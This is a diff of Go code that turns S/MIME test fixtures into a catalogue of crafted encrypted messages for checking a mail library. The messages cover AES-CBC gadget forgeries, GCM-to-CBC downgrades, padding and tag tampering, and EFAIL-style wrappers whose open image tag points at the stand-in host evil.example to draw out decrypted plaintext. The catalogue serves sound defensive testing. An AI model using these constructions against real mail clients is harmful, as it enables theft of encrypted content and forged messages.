@@ -1,163 +1,85 @@
-package smime_test
+package catalogue
 
 import (
 	"bytes"
 	"crypto"
-	"crypto/aes"
 	"crypto/cipher"
 	"crypto/des"
 	"crypto/rsa"
 	"crypto/subtle"
 	"slices"
 	"strings"
-	"testing"
 
-	"github.com/postseal/postseal/certstore"
 	"github.com/postseal/postseal/internal/cipherstream"
 	"github.com/postseal/postseal/internal/forge"
 	"github.com/postseal/postseal/internal/kdf"
 	"github.com/postseal/postseal/internal/oid"
-	"github.com/postseal/postseal/smime"
 )
-
-// sealedFiles are the rows B06, C01 to C10 as far as they are messages.
-func sealedFiles(t *testing.T, people *openIdentities) []*openFile {
-	m := &mimeMaker{t: t, people: people}
-	m.isolation()
-	m.gadgets()
-	m.downgrades()
-	m.tags()
-	m.keyTransport()
-	m.recipients()
-	m.padding()
-	m.oldCiphers()
-	return m.files
-}
-
-// The keys that all of the messages are encrypted with. No message holds them in any
-// other form than a message does.
-const (
-	fileKey   = "The key that encrypts the files."
-	fileIV    = "sixteen octets, "
-	fileNonce = "twelve more "
-)
-
-func sealedMail(der []byte) string {
-	return fileFields + strings.Replace(fileOpaque, "signed-data", "enveloped-data", 1) + base64Lines(der)
-}
-
-func authSealedMail(der []byte) string {
-	return fileFields + strings.Replace(fileOpaque, "signed-data", "authEnveloped-data", 1) + base64Lines(der)
-}
-
-// sealedPart is an entity that Alice signed, for inside an encryption.
-func (m *mimeMaker) sealedPart() string {
-	return fileOpaque + base64Lines(forged(filePart, m.people.alice).DER())
-}
-
-// transport returns a RecipientInfo for the key by PKCS #1 v1.5.
-func transport(to *certstore.Identity, key []byte) []byte {
-	pub := to.Certificate().PublicKey.(*rsa.PublicKey)
-	return forge.KeyTransport(to.Certificate(), forge.Algorithm(oid.RSA, forge.Null()),
-		forge.RSAEncrypted(pub, forge.EncryptionBlock(pub.Size(), key)))
-}
-
-// envelope returns content in AES-256-CBC for Bob.
-func (p *openIdentities) envelope(content string, change func(*forge.Enveloped)) []byte {
-	key := []byte(fileKey)
-	e := &forge.Enveloped{
-		Recipients: [][]byte{transport(p.bob, key)},
-		Cipher:     forge.AESCBC(key, []byte(fileIV)),
-		Text:       forge.CBC(forge.AES(key), []byte(fileIV), forge.Padded([]byte(content), aes.BlockSize)),
-	}
-	if change != nil {
-		change(e)
-	}
-	return e.DER()
-}
-
-// authEnvelope returns content in AES-256-GCM for Bob.
-func (p *openIdentities) authEnvelope(content string, change func(*forge.Enveloped)) []byte {
-	key := []byte(fileKey)
-	e := &forge.Enveloped{
-		Authenticated: true,
-		Recipients:    [][]byte{transport(p.bob, key)},
-		Cipher:        forge.AESGCM(key, []byte(fileNonce), 16),
-	}
-	e.Text, e.MAC = forge.GCM(key, []byte(fileNonce), []byte(content), nil)
-	if change != nil {
-		change(e)
-	}
-	return e.DER()
-}
-
-// bare adds a message that nobody signed and that is not refused for another reason.
-func (m *mimeMaker) bare(name, note, twin, message string) *openFile {
-	return m.add(&openFile{Name: name, Note: note, Twin: twin, Verdict: smime.Unsigned, message: message})
-}
 
 // isolation: what was encrypted never gets together with what was not.
-func (m *mimeMaker) isolation() {
-	sealed := sealedMail(m.people.envelope(m.sealedPart(), nil))
-	m.authentic("c01-twin-sealed", "signed and encrypted with AES-CBC", sealed, filePart)
-	part := strings.TrimPrefix(sealed, fileFields)
+func (m *Maker) isolation() {
+	sealed := m.SealedMail(m.Envelope(m.SealedPart(), nil))
+	m.authentic("c01-twin-sealed", "signed and encrypted with AES-CBC", sealed, m.part)
+	part := strings.TrimPrefix(sealed, m.fields)
 	for name, kind := range map[string]string{"mixed": "mixed", "alternative": "alternative", "related": "related; type=\"text/html\"", "signed-look": "signed; protocol=\"application/pgp-signature\""} {
-		m.bare("c01-"+name, "a part on each side draws the plaintext out", "c01-twin-sealed",
-			fileFields+"Content-Type: multipart/"+kind+"; boundary=outer\r\n\r\n"+
+		m.open("c01-"+name, "a part on each side draws the plaintext out", "c01-twin-sealed",
+			m.fields+"Content-Type: multipart/"+kind+"; boundary=outer\r\n\r\n"+
 				"--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"+
 				"--outer\r\n"+part+"--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n")
 	}
-	m.bare("c01-attached", "the encrypted message is attached to another", "c01-twin-sealed",
-		fileFields+"Content-Type: message/rfc822\r\n\r\n"+sealed)
-	m.bare("c01-html-around", "an open quote inside the encryption is not closed outside of it", "c01-twin-sealed",
-		sealedMail(m.people.envelope("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", nil)))
+	m.open("c01-attached", "the encrypted message is attached to another", "c01-twin-sealed",
+		m.fields+"Content-Type: message/rfc822\r\n\r\n"+sealed)
+	m.open("c01-html-around", "an open quote inside the encryption is not closed outside of it", "c01-twin-sealed",
+		m.SealedMail(m.Envelope("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", nil)))
 }
 
 // gadgets: whoever knows one block of plaintext writes others under AES-CBC.
-func (m *mimeMaker) gadgets() {
-	const known, chosen = "Content-Type: te", "\r\nPay Eve 100.\r\n"
+func (m *Maker) gadgets() {
+	const chosen = "\r\nPay Eve 100.\r\n"
 	gadget := func(content string) func(*forge.Enveloped) {
 		return func(e *forge.Enveloped) {
 			x := make([]byte, 16)
-			subtle.XORBytes(x, []byte(fileIV), []byte(content[:16]))
+			subtle.XORBytes(x, []byte(IV), []byte(content[:16]))
 			subtle.XORBytes(x, x, []byte(chosen))
-			e.Cipher = forge.AESCBC([]byte(fileKey), x) // the first block reads as chosen
+			e.Cipher = forge.AESCBC([]byte(Key), x) // the first block reads as chosen
 		}
 	}
 	const twin = "c01-twin-sealed"
-	if !strings.HasPrefix(filePart, known) {
-		m.t.Fatal("the first block is another")
+	if len(m.part) < len(chosen) {
+		m.lacks("a content of at least one block")
+		m.forAll()
+		return
 	}
-	m.bare("c02-gadget", "the first block is the attacker's, the rest is left", twin, sealedMail(m.people.envelope(filePart, gadget(filePart))))
-	signed := m.sealedPart()
-	m.bare("c02-gadget-over-signature", "the first block, which said that the rest is signed, is the attacker's", twin, sealedMail(m.people.envelope(signed, gadget(signed))))
-	m.refused("c02-gadget-inside", "a block within the signature inside is the attacker's", twin, "decrypt.failed", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
+	m.open("c02-gadget", "the first block is the attacker's, the rest is left", twin, m.SealedMail(m.Envelope(m.part, gadget(m.part))))
+	signed := m.SealedPart()
+	m.open("c02-gadget-over-signature", "the first block, which said that the rest is signed, is the attacker's", twin, m.SealedMail(m.Envelope(signed, gadget(signed))))
+	m.refused("c02-gadget-inside", "a block within the signature inside is the attacker's", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
 		e.Text[400] ^= 1
 	})))
-	m.refused("c02-blocks-swapped", "two blocks have changed places", twin, "decrypt.failed", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
+	m.refused("c02-blocks-swapped", "two blocks have changed places", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
 		a, b := bytes.Clone(e.Text[320:336]), bytes.Clone(e.Text[480:496])
 		copy(e.Text[320:], b)
 		copy(e.Text[480:], a)
 	})))
-	m.refused("c02-cut", "the last block is cut off", twin, "decrypt.failed", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
+	m.refused("c02-cut", "the last block is cut off", twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
 		e.Text = e.Text[:len(e.Text)-16]
 	})))
 }
 
 // downgrades: what was authenticated encryption is sent as one that is not.
-func (m *mimeMaker) downgrades() {
-	key, nonce := []byte(fileKey), []byte(fileNonce)
-	signed := m.sealedPart()
+func (m *Maker) downgrades() {
+	key, nonce := []byte(Key), []byte(Nonce)
+	signed := m.SealedPart()
 	const twin = "c03-twin-gcm"
-	m.authentic(twin, "signed and encrypted with AES-GCM", authSealedMail(m.people.authEnvelope(signed, nil)), filePart)
+	m.authentic(twin, "signed and encrypted with AES-GCM", m.AuthSealedMail(m.AuthEnvelope(signed, nil)), m.part)
 	text, tag := forge.GCM(key, nonce, []byte(signed), nil)
-	m.refused("c03-as-cbc", "the ciphertext of AES-GCM as one of AES-CBC", twin, "decrypt.failed", sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
+	m.refused("c03-as-cbc", "the ciphertext of AES-GCM as one of AES-CBC", twin, "decrypt.failed", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
 		e.Text = text[:len(text)/16*16]
 	})))
 	// The counter blocks and what they encrypt to are known, so that a block of the
 	// attacker's deciphers to a counter block, and the initial vector makes of it what
 	// he likes.
-	m.bare("c03-chosen", "one block of the key stream of AES-GCM as a message in AES-CBC", twin, sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
+	m.open("c03-chosen", "one block of the key stream of AES-GCM as a message in AES-CBC", twin, m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
 		counter := append(bytes.Clone(nonce), 0, 0, 0, 2)
 		e.Text = make([]byte, 16)
 		subtle.XORBytes(e.Text, text[:16], []byte(signed[:16]))
@@ -165,37 +87,35 @@ func (m *mimeMaker) downgrades() {
 		subtle.XORBytes(iv, iv, counter)
 		e.Cipher = forge.AESCBC(key, iv)
 	})))
-	m.refused("c03-gcm-in-enveloped", "AES-GCM in EnvelopedData, the tag behind the ciphertext", twin, "decrypt.unsupported", sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
+	m.refused("c03-gcm-in-enveloped", "AES-GCM in EnvelopedData, the tag behind the ciphertext", twin, "decrypt.unsupported", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
 		e.Cipher, e.Text = forge.AESGCM(key, nonce, 16), slices.Concat(text, tag)
 	})))
 	inner := forge.AESGCM(key, nonce, 16)
 	derived, err := kdf.ContentKey(key, inner)
-	if err != nil {
-		m.t.Fatal(err)
-	}
+	must(err)
 	bound := func(e *forge.Enveloped) {
 		e.Cipher = forge.Algorithm(oid.CEKHKDFSHA256, inner)
 		e.Text, e.MAC = forge.GCM(derived, nonce, []byte(signed), nil)
 	}
-	m.authentic("c03-twin-derived", "the key is bound to the cipher", authSealedMail(m.people.authEnvelope("", bound)), filePart)
-	m.refused("c03-derived-as-is", "the key was bound to the cipher, and is used without that", "c03-twin-derived", "decrypt.failed", authSealedMail(m.people.authEnvelope("", func(e *forge.Enveloped) {
+	m.authentic("c03-twin-derived", "the key is bound to the cipher", m.AuthSealedMail(m.AuthEnvelope("", bound)), m.part)
+	m.refused("c03-derived-as-is", "the key was bound to the cipher, and is used without that", "c03-twin-derived", "decrypt.failed", m.AuthSealedMail(m.AuthEnvelope("", func(e *forge.Enveloped) {
 		bound(e)
 		e.Cipher = inner
 	})))
-	m.refused("c03-derived-to-cbc", "the key was bound to AES-GCM, and AES-CBC is announced", "c03-twin-derived", "decrypt.failed", sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
+	m.refused("c03-derived-to-cbc", "the key was bound to AES-GCM, and AES-CBC is announced", "c03-twin-derived", "decrypt.failed", m.SealedMail(m.Envelope("", func(e *forge.Enveloped) {
 		bound(e)
 		e.MAC, e.Text = nil, e.Text[:len(e.Text)/16*16]
-		e.Cipher = forge.Algorithm(oid.CEKHKDFSHA256, forge.AESCBC(key, []byte(fileIV)))
+		e.Cipher = forge.Algorithm(oid.CEKHKDFSHA256, forge.AESCBC(key, []byte(IV)))
 	})))
 }
 
 // tags: all of the tag, and of the length that the message says.
-func (m *mimeMaker) tags() {
-	key, nonce := []byte(fileKey), []byte(fileNonce)
-	signed := m.sealedPart()
+func (m *Maker) tags() {
+	key, nonce := []byte(Key), []byte(Nonce)
+	signed := m.SealedPart()
 	const twin = "c03-twin-gcm"
 	by := func(change func(*forge.Enveloped)) string {
-		return authSealedMail(m.people.authEnvelope(signed, change))
+		return m.AuthSealedMail(m.AuthEnvelope(signed, change))
 	}
 	short := func(n int) func(*forge.Enveloped) {
 		return func(e *forge.Enveloped) { e.Cipher, e.MAC = forge.AESGCM(key, nonce, n), e.MAC[:n] }
@@ -210,7 +130,7 @@ func (m *mimeMaker) tags() {
 	m.refused("c04-length-absent", "no length announced, which means twelve, and sixteen octets sent", twin, "decrypt.weak_cipher", by(func(e *forge.Enveloped) {
 		e.Cipher = forge.Algorithm(oid.AES256GCM, forge.Sequence(forge.Octets(nonce)))
 	}))
-	m.refused("c04-cbc", "AES-CBC in AuthEnvelopedData", twin, "decrypt.unsupported", authSealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
+	m.refused("c04-cbc", "AES-CBC in AuthEnvelopedData", twin, "decrypt.unsupported", m.AuthSealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
 		e.Authenticated, e.MAC = true, make([]byte, 16)
 	})))
 	m.refused("c06-tag", "one bit of the tag is another", twin, "decrypt.failed", by(func(e *forge.Enveloped) { e.MAC[15] ^= 1 }))
@@ -229,12 +149,12 @@ func (m *mimeMaker) tags() {
 }
 
 // keyTransport: whatever is wrong with the encrypted key, the content says so, in its one way.
-func (m *mimeMaker) keyTransport() {
-	bob, key := m.people.bob, []byte(fileKey)
+func (m *Maker) keyTransport() {
+	bob, key := m.people.Bob(), []byte(Key)
 	pub := bob.Certificate().PublicKey.(*rsa.PublicKey)
-	signed := m.sealedPart()
+	signed := m.SealedPart()
 	by := func(algorithm, encryptedKey []byte) string {
-		return sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
+		return m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) {
 			e.Recipients = [][]byte{forge.KeyTransport(bob.Certificate(), algorithm, encryptedKey)}
 		}))
 	}
@@ -278,10 +198,10 @@ func (m *mimeMaker) keyTransport() {
 	}
 	sha256 := oaep(oid.SHA256, oid.SHA256, nil)
 	const twin = "c09-twin-sha256"
-	m.authentic(twin, "OAEP with SHA-256", by(sha256, padded(crypto.SHA256, crypto.SHA256, "", nil)), filePart)
-	m.authentic("c09-twin-mgf-sha1", "OAEP with SHA-256 and a mask by SHA-1", by(oaep(oid.SHA256, oid.SHA1, nil), padded(crypto.SHA256, crypto.SHA1, "", nil)), filePart)
-	m.authentic("c09-twin-label", "OAEP with a label", by(oaep(oid.SHA256, oid.SHA256, []byte("mail")), padded(crypto.SHA256, crypto.SHA256, "mail", nil)), filePart)
-	m.authentic("c09-twin-default", "OAEP with the parameters left to their defaults", by(forge.Algorithm(oid.RSAOAEP, forge.Sequence()), padded(crypto.SHA1, crypto.SHA1, "", nil)), filePart)
+	m.authentic(twin, "OAEP with SHA-256", by(sha256, padded(crypto.SHA256, crypto.SHA256, "", nil)), m.part)
+	m.authentic("c09-twin-mgf-sha1", "OAEP with SHA-256 and a mask by SHA-1", by(oaep(oid.SHA256, oid.SHA1, nil), padded(crypto.SHA256, crypto.SHA1, "", nil)), m.part)
+	m.authentic("c09-twin-label", "OAEP with a label", by(oaep(oid.SHA256, oid.SHA256, []byte("mail")), padded(crypto.SHA256, crypto.SHA256, "mail", nil)), m.part)
+	m.authentic("c09-twin-default", "OAEP with the parameters left to their defaults", by(forge.Algorithm(oid.RSAOAEP, forge.Sequence()), padded(crypto.SHA1, crypto.SHA1, "", nil)), m.part)
 	for _, c := range []struct {
 		name, note, code string
 		algorithm, key   []byte
@@ -308,20 +228,20 @@ func (m *mimeMaker) keyTransport() {
 }
 
 // recipients: the first one that the reader's key belongs to decides, whatever is beside it.
-func (m *mimeMaker) recipients() {
-	bob, eve := m.people.bob, m.people.eve
-	good, bad := transport(bob, []byte(fileKey)), transport(bob, make([]byte, 32))
-	theirs := transport(eve, make([]byte, 32))
+func (m *Maker) recipients() {
+	bob, eve := m.people.Bob(), m.people.Eve()
+	good, bad := Transport(bob, []byte(Key)), Transport(bob, make([]byte, 32))
+	theirs := Transport(eve, make([]byte, 32))
 	unknown := forge.Tagged(9, forge.Null())
-	signed := m.sealedPart()
+	signed := m.SealedPart()
 	by := func(recipients ...[]byte) string {
-		return sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) { e.Recipients = recipients }))
+		return m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Recipients = recipients }))
 	}
 	const twin = "c08-twin-other-first"
-	m.authentic(twin, "somebody else's first", by(theirs, good), filePart)
-	m.authentic("c08-twin-other-last", "somebody else's last", by(good, theirs), filePart)
-	m.authentic("c08-twin-unknown-first", "a kind of recipient that nobody knows", by(unknown, good), filePart)
-	m.authentic("c08-twin-bad-last", "Bob's twice, the right one first", by(good, bad), filePart)
+	m.authentic(twin, "somebody else's first", by(theirs, good), m.part)
+	m.authentic("c08-twin-other-last", "somebody else's last", by(good, theirs), m.part)
+	m.authentic("c08-twin-unknown-first", "a kind of recipient that nobody knows", by(unknown, good), m.part)
+	m.authentic("c08-twin-bad-last", "Bob's twice, the right one first", by(good, bad), m.part)
 	m.refused("c08-bad-first", "Bob's twice, the right one last", twin, "decrypt.failed", by(bad, good))
 	m.refused("c08-bad-only", "Bob's with another key", twin, "decrypt.failed", by(theirs, bad))
 	m.refused("c08-nobody", "only somebody else's", twin, "decrypt.no_key", by(theirs))
@@ -329,11 +249,11 @@ func (m *mimeMaker) recipients() {
 }
 
 // padding: nothing tells how the padding of AES-CBC is wrong.
-func (m *mimeMaker) padding() {
-	signed := m.sealedPart()
-	key, iv := []byte(fileKey), []byte(fileIV)
+func (m *Maker) padding() {
+	signed := m.SealedPart()
+	key, iv := []byte(Key), []byte(IV)
 	with := func(plain []byte) string {
-		return sealedMail(m.people.envelope("", func(e *forge.Enveloped) { e.Text = forge.CBC(forge.AES(key), iv, plain) }))
+		return m.SealedMail(m.Envelope("", func(e *forge.Enveloped) { e.Text = forge.CBC(forge.AES(key), iv, plain) }))
 	}
 	end := func(n int, last ...byte) []byte {
 		plain := []byte(signed)
@@ -343,7 +263,7 @@ func (m *mimeMaker) padding() {
 		return append(plain, last...)
 	}
 	const twin = "c10-twin-whole-block"
-	m.authentic(twin, "a whole block of padding", with(end(16, bytes.Repeat([]byte{16}, 16)...)), filePart)
+	m.authentic(twin, "a whole block of padding", with(end(16, bytes.Repeat([]byte{16}, 16)...)), m.part)
 	for _, c := range []struct {
 		name, note string
 		plain      []byte
@@ -358,57 +278,56 @@ func (m *mimeMaker) padding() {
 		m.refused("c10-"+c.name, c.note, twin, "decrypt.failed", with(c.plain))
 	}
 	text := func(name, note string, change func([]byte) []byte) {
-		m.refused("c10-"+name, note, twin, "decrypt.failed", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) { e.Text = change(e.Text) })))
+		m.refused("c10-"+name, note, twin, "decrypt.failed", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Text = change(e.Text) })))
 	}
 	text("cut", "the last octet is missing", func(b []byte) []byte { return b[:len(b)-1] })
 	text("more", "an octet more", func(b []byte) []byte { return append(b, 0) })
 	text("empty", "an empty ciphertext", func(b []byte) []byte { return b[:0] })
 	text("one", "one octet of ciphertext", func(b []byte) []byte { return b[:1] })
-	m.refused("c10-absent", "no ciphertext", twin, "decrypt.unsupported", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) { e.Text = nil })))
+	m.refused("c10-absent", "no ciphertext", twin, "decrypt.unsupported", m.SealedMail(m.Envelope(signed, func(e *forge.Enveloped) { e.Text = nil })))
 }
 
 // oldCiphers are not read unless somebody asks for it.
-func (m *mimeMaker) oldCiphers() {
-	signed := m.sealedPart()
-	for _, c := range oldCiphers(m.t) {
-		m.refused("b06-"+c.name, c.note, "c01-twin-sealed", "decrypt.weak_cipher", sealedMail(c.envelope(m.people, signed)))
+func (m *Maker) oldCiphers() {
+	signed := m.SealedPart()
+	for _, c := range OldCiphers() {
+		m.refused("b06-"+c.Name, c.Note, "c01-twin-sealed", "decrypt.weak_cipher", m.SealedMail(c.Envelope(m, signed)))
 	}
 }
 
-// An oldCipher is one that is read only where the caller allows it.
-type oldCipher struct {
-	name, note string
+// An OldCipher is one that is read only where the caller allows it.
+type OldCipher struct {
+	Name, Note string
 	algorithm  []byte
 	key        []byte
 	block      cipher.Block
 }
 
-func (c oldCipher) envelope(p *openIdentities, content string) []byte {
-	return p.envelope("", func(e *forge.Enveloped) {
-		e.Recipients = [][]byte{transport(p.bob, c.key)}
+// Envelope returns content in the cipher for Bob.
+func (c OldCipher) Envelope(m *Maker, content string) []byte {
+	return m.Envelope("", func(e *forge.Enveloped) {
+		e.Recipients = [][]byte{Transport(m.people.Bob(), c.key)}
 		e.Cipher = c.algorithm
-		e.Text = forge.CBC(c.block, []byte(fileIV)[:8], forge.Padded([]byte(content), 8))
+		e.Text = forge.CBC(c.block, []byte(IV)[:8], forge.Padded([]byte(content), 8))
 	})
 }
 
-func oldCiphers(t testing.TB) []oldCipher {
-	t.Helper()
-	must := func(b cipher.Block, err error) cipher.Block {
-		if err != nil {
-			t.Fatal(err)
-		}
+// OldCiphers returns all of them.
+func OldCiphers() []OldCipher {
+	block := func(b cipher.Block, err error) cipher.Block {
+		must(err)
 		return b
 	}
-	iv := forge.Octets([]byte(fileIV)[:8])
-	rc2 := func(version, bits int, name string) oldCipher {
-		key := []byte(fileKey)[:bits/8]
-		return oldCipher{name, "RC2 with a key of " + name[4:] + " bits", forge.Algorithm(oid.RC2CBC, forge.Sequence(forge.Integer(int64(version)), iv)),
-			key, must(cipherstream.NewRC2(key, bits))}
+	iv := forge.Octets([]byte(IV)[:8])
+	rc2 := func(version, bits int, name string) OldCipher {
+		key := []byte(Key)[:bits/8]
+		return OldCipher{name, "RC2 with a key of " + name[4:] + " bits", forge.Algorithm(oid.RC2CBC, forge.Sequence(forge.Integer(int64(version)), iv)),
+			key, block(cipherstream.NewRC2(key, bits))}
 	}
-	triple, single := []byte(fileKey)[:24], []byte(fileKey)[:8]
-	return []oldCipher{
-		{"3des", "Triple-DES", forge.Algorithm(oid.TripleDESCBC, iv), triple, must(des.NewTripleDESCipher(triple))},
-		{"des", "DES", forge.Algorithm(oid.DESCBC, iv), single, must(des.NewCipher(single))},
+	triple, single := []byte(Key)[:24], []byte(Key)[:8]
+	return []OldCipher{
+		{"3des", "Triple-DES", forge.Algorithm(oid.TripleDESCBC, iv), triple, block(des.NewTripleDESCipher(triple))},
+		{"des", "DES", forge.Algorithm(oid.DESCBC, iv), single, block(des.NewCipher(single))},
 		rc2(160, 40, "rc2-40"), rc2(120, 64, "rc2-64"), rc2(58, 128, "rc2-128"),
 	}
 }
